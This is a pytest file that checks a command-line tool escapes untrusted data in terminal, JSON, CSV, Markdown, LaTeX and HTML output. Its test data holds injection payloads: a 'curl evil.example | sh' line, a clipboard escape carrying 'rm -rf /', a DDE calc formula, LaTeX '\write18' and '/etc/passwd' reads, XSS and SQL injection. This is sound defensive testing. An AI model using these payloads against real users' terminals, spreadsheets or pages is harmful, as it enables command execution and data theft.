"""What others wrote is shown, whatever is in it, and does nothing where it is shown."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import tomllib
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import hypestore as hs
from hypencli.cli.output.progress import TerminalProgress
from hypencli.cli.output.tables import print_table
from hypencli.escaping import (
    escape_csv,
    escape_json,
    escape_latex,
    escape_line,
    escape_markdown,
    escape_terminal,
)

HOSTILE = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "8-bit": "\x9b31m\x9d0;owned\x9c",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "return": "safe\revil",
    "own line": "x\nError: run curl evil.example | sh",
    "override": "exe.\u202egnp.\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "separators": "a\u2028b\u2029c\ufeff",
    "markup": "[red]x[/red] [/] [link=https://evil.example]y[/link] :warning:",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": "\"' onmouseover=alert(3) x='",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab formula": "\t=1+1",
    "blank formula": " =1+1",
    "wide formula": "＝1+1",
    "semicolon formula": "a;=1+1",
    "command": "=cmd|'/c calc'!A0",
    "image": "![x](https://evil.example/track.png)",
    "script link": "[x](javascript:alert(1)) <https://evil.example> https://evil.example",
    "pipes": "a | b || `c` **d** _e_ ~~f~~ $g$",
    "latex": "\\input{/etc/passwd}\\write18{id} % $ & # _ ^ ~ { }",
    "row end": "[1cm] \\\\ \\hline",
    "sql": "'; DROP TABLE runs; --",
    "arabic": "مرحبا بالعالم",
    "emoji": "👩‍👩‍👧 ok",
}
STEERS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)


def words(text: str) -> str:
    """What is left to see of a text: no blanks, as tables fold lines."""
    return re.sub(r"\s", "", STEERS.sub("", text))


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> hs.Store:
    """Two runs whose corpus, queries, ids, texts and measures are hostile, and are measured."""
    store_made = hs.Store.create(tmp_path_factory.mktemp("output") / "store")
    everything = " ".join(HOSTILE.values())
    for i, name in enumerate(["=a]8;;x[red]", "<b>-[x](y)|&_$1"]):
        inputs = {"corpus": everything, "queries": HOSTILE["title"], "i": i, "k": 5}
        with store_made.run_writer("run", inputs, name=name) as writer:
            writer.queries([(text, text) for text in HOSTILE.values()])
            for query in HOSTILE.values():
                ids = list(HOSTILE.values())[: 3 + i]
                writer.append([query] * len(ids), ids, range(1, len(ids) + 1), [1.0] * len(ids))
            run = writer.commit(stats={"seconds": {"scoring": 0.5}, "engine": HOSTILE["link"]})
        store_made.write_evaluation(
            run.id,
            qrels_id=HOSTILE["own line"] + HOSTILE["title"],
            inputs={"qrels_fingerprint": "f"},
            per_query=[(text, "RR", i / (1 + j)) for j, text in enumerate(HOSTILE.values())],
            aggregates={"RR": 0.25 + i / 2, HOSTILE["html"]: 0.5},
            stats={"judged_queries": len(HOSTILE)},
        )
    return store_made


TERMINAL = [
    ["report"],
    ["report", "=a", "<b>", "--measures", "RR"],
    ["report", "--sql", "SELECT DISTINCT query_id, measure, value FROM per_query_metrics"],
    ["ls"],
    ["ls", "runs"],
    ["show", "{run}"],
    ["doctor"],
    ["show", "\x1b]0;owned\x07\u202e"],
    ["rm", "\x1b]0;owned\x07\u202e"],
    ["eval", "\x1b[2J", "--qrels", "\x1b]0;owned\x07"],
    ["report", "--sql", "SELECT '\x1b[2J\u202e'"],
    ["report", "--sql", "SELECT \x1b[2J FROM \u202e"],
    ["report", "--measures", "\x1b[2J"],
    ["\x1b]0;owned\x07"],
    ["ls", "--\x1b[2J"],
    ["ls", "\x1b[2J"],
    ["show", "\x1b[2J", "--store", "/nowhere/\x1b[2J"],
]


@pytest.mark.parametrize("arguments", TERMINAL, ids=lambda words: " ".join(words).__repr__()[:40])
@pytest.mark.parametrize("format", [[], ["--json"]], ids=["text", "json"])
def test_no_verb_prints_what_steers_a_terminal(
    hype: Callable[..., Any], store: hs.Store, arguments: list[str], format: list[str]
) -> None:
    run = store.artifacts("run")[0].id
    inputs = [one.replace("{run}", run) for one in arguments]
    place = [] if "--store" in inputs or inputs[0] not in VERBS else ["--store", store.root]
    shown = hype(*inputs, *format, *place)
    assert shown.out or shown.err
    assert STEERS.findall(shown.out + shown.err) == []
    if format and shown.code not in (0, 2):
        assert json.loads(shown.out)["error"]["exit_code"] == shown.code


VERBS = {"report", "ls", "show", "doctor", "rm", "eval"}


def sql(texts: str = "query_id") -> list[str]:
    return ["report", "--sql", f"SELECT {texts} FROM per_query_metrics ORDER BY run, value DESC"]


def test_json_has_the_exact_text(hype: Callable[..., Any], store: hs.Store) -> None:
    shown = hype(*sql("DISTINCT query_id, value"), "--json", "--store", store.root)
    actual = {row["query_id"] for row in shown.json["rows"]}
    assert actual == set(HOSTILE.values())
    assert shown.out.count("\n") == 1


def test_a_name_begins_no_line_of_its_own(hype: Callable[..., Any], store: hs.Store) -> None:
    for arguments in (["report"], ["ls"], sql()):
        for format in ("table", "markdown", "latex"):
            named = [] if arguments == ["ls"] else ["--format", format]
            lines = hype(*arguments, *named, "--store", store.root).out.splitlines()
            assert not [line for line in lines if line.lstrip().startswith("Error:")]


def test_csv_starts_no_formula_and_keeps_the_rest(
    hype: Callable[..., Any], store: hs.Store
) -> None:
    out = hype(*sql("DISTINCT query_id, value"), "--format", "csv", "--store", store.root).out
    cells = [row[0] for row in csv.reader(io.StringIO(out))][1:]
    for cell in cells:
        assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠"), cell
    assert {cell.lstrip("'") for cell in cells} == {
        escape_terminal(text).lstrip("'") for text in HOSTILE.values()
    }
    # A spreadsheet that cuts lines at semicolons or tabs finds none outside of quotes.
    assert not re.search(r"[;\t]", re.sub(r'"(?:[^"]|"")*"', "", out))


@pytest.mark.parametrize("signs", [";", "\t"])
def test_columns_and_cells_of_csv_alike(capsys: pytest.CaptureFixture[str], signs: str) -> None:
    print_table("", ("=1+1", "@x"), [(-0.5, f"a{signs}=b"), (None, "-0.25")], format="csv")
    assert capsys.readouterr().out == f"'=1+1,'@x\n-0.5,\"a{signs}=b\"\n,-0.25\n"


def test_markdown_shows_signs_and_makes_nothing_of_them(
    hype: Callable[..., Any], store: hs.Store
) -> None:
    from markdown_it import MarkdownIt

    out = hype(*sql("DISTINCT query_id"), "--format", "markdown", "--store", store.root).out
    reader = MarkdownIt("gfm-like", {"html": True, "linkify": False}).enable("table")
    rendered = reader.render(out)
    tags = set(re.findall(r"</?(\w+)", rendered))
    assert tags == {"table", "thead", "tbody", "tr", "th", "td"}
    seen = Words(rendered).cells
    assert {words(cell) for cell in seen[1:]} == {words(text) for text in HOSTILE.values()}
    assert not re.search(r"https?://|www\.", out)


class Words(HTMLParser):
    """The texts of the cells of a table."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.cells: list[str] = []
        self._inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: object) -> None:
        if tag in ("td", "th"):
            self.cells.append("")
            self._inside = True

    def handle_endtag(self, tag: str) -> None:
        self._inside = self._inside and tag not in ("td", "th")

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.cells[-1] += data


def test_latex_has_no_command_but_its_own(hype: Callable[..., Any], store: hs.Store) -> None:
    for arguments in (["report"], sql("DISTINCT query_id, value")):
        out = hype(*arguments, "--format", "latex", "--store", store.root).out
        body = "\n".join(line for line in out.splitlines() if not line.startswith("%"))
        commands = set(re.findall(r"\\([A-Za-z]+|.)", body, re.DOTALL))
        expected_names = {"begin", "end", "toprule", "midrule", "bottomrule", "\\"}
        texts = {f"text{name}" for name in TEXT_COMMANDS}
        assert commands <= expected_names | texts | set("&%$#_{}")
        assert body.count("\\begin{") == 1
        # What follows the end of a row is never read as its argument.
        assert not re.search(r"(\\\\|rule)\s*[\[*]", body)
        rows = body.split("\\midrule\n")[1].split("\\bottomrule")[0].rstrip("\n").split("\n")
        assert all(row.endswith(" \\\\") for row in rows)


TEXT_COMMANDS = (*("asciitilde", "asciicircum", "backslash", "less", "greater", "bar", "quotedbl"),)


def test_the_page_runs_nothing_and_shows_it_all(
    hype: Callable[..., Any], store: hs.Store, tmp_path: Path
) -> None:
    page = tmp_path / "report.html"
    assert hype("report", "--html", page, "--store", store.root).code == 0
    text = page.read_text(encoding="utf-8")
    assert STEERS.findall(text.replace("\r", "")) == []
    assert text.count("<script>") == 1
    elements = re.findall(r"<(\w+)((?:[^<>\"']|\"[^\"]*\"|'[^']*')*)>", text)
    assert not {name for name, _ in elements} & {"img", "iframe", "object", "embed"}
    attributes = {at for _, rest in elements for at in re.findall(r"\s([\w-]+)=[\"']", rest)}
    assert not [name for name in attributes if name.startswith("on")]
    assert not re.findall(r"""(?:href|src)=["'](?!#|data:,")""", text)
    assert "Content-Security-Policy" in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_the_report_in_an_archive_is_markdown_that_only_shows(
    hype: Callable[..., Any], store: hs.Store, tmp_path: Path
) -> None:
    import zipfile

    from markdown_it import MarkdownIt

    path = tmp_path / "x.study.zip"
    assert hype("export", "study", path, "--store", store.root).code == 0
    with zipfile.ZipFile(path) as archive:
        text = archive.read("report.md").decode()
    rendered = MarkdownIt("gfm-like", {"html": True, "linkify": False}).enable("table").render(text)
    assert not {"script", "img", "a", "em", "strong", "code"} & set(re.findall(r"<(\w+)", rendered))
    assert STEERS.findall(text) == []


def test_bars_and_messages_take_no_markup(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    monkeypatch.setenv("TERM", "dumb")
    bars = TerminalProgress()
    with bars.task("[/] " + HOSTILE["title"], total=1, unit="[/]") as task:
        task.note("[/] " + HOSTILE["markup"] + HOSTILE["link"])
        task.advance()
    bars.message("[/] " + HOSTILE["clear"] + HOSTILE["override"])
    shown = capsys.readouterr().err
    assert "[/] [2J[Hcexe.gnp." in shown
    assert "\x1b]" not in shown
    assert "\u202e" not in shown


def test_warnings_of_the_store_are_harmless(tmp_path: Path) -> None:
    store_made = hs.Store.create(tmp_path / "store")
    folder = store_made.root / "runs" / "\x1b]0;owned\x07\u202e-0123456789"
    folder.mkdir()
    (folder / "manifest.json").write_text("no json", encoding="utf-8")
    command = [sys.executable, "-m", "hypencli", "ls", "--store", store_made.root]
    shown = subprocess.run(command, capture_output=True, text=True, encoding="utf-8", check=True)
    assert "left out: " in shown.stderr
    assert STEERS.findall(shown.stdout + shown.stderr) == []


@given(st.text())
@settings(max_examples=200)
def test_whatever_the_text_each_form_is_what_it_should_be(text: str) -> None:
    assert json.loads(escape_json([text])) == [text]
    assert STEERS.findall(escape_json([text])) == []
    assert "\n" not in escape_json([text])
    (row,) = csv.reader(io.StringIO(escape_csv([text, 1])), strict=True)
    assert row[0].removeprefix("'") == escape_terminal(text).removeprefix("'")
    assert not re.match(r"[=+@＝＋－＠]", row[0].lstrip())
    for form in (escape_line(text), escape_markdown(text), escape_latex(text)):
        assert STEERS.findall(form) == []
        assert "\n" not in form
    assert not re.search(r"(?<!\\)(?:\\\\)*[|`*_\[\]]", escape_markdown(text))


def test_a_recipe_of_others_is_shown_and_loads_again(
    hype: Callable[..., Any], tmp_path: Path
) -> None:
    path = tmp_path / "theirs.toml"
    told = "".join(f"\\u{ord(sign):04x}" for sign in HOSTILE["title"] + HOSTILE["override"])
    path.write_text(f'extends = "tiny"\ndescription = "{told}"\n', encoding="utf-8")
    for arguments in (["--toml"], [], ["--json"]):
        shown = hype("recipes", "show", path, *arguments)
        assert shown.code == 0
        assert STEERS.findall(shown.out) == []
    again = tomllib.loads(hype("recipes", "show", path, "--toml").out)
    assert again["description"] == HOSTILE["title"] + HOSTILE["override"]
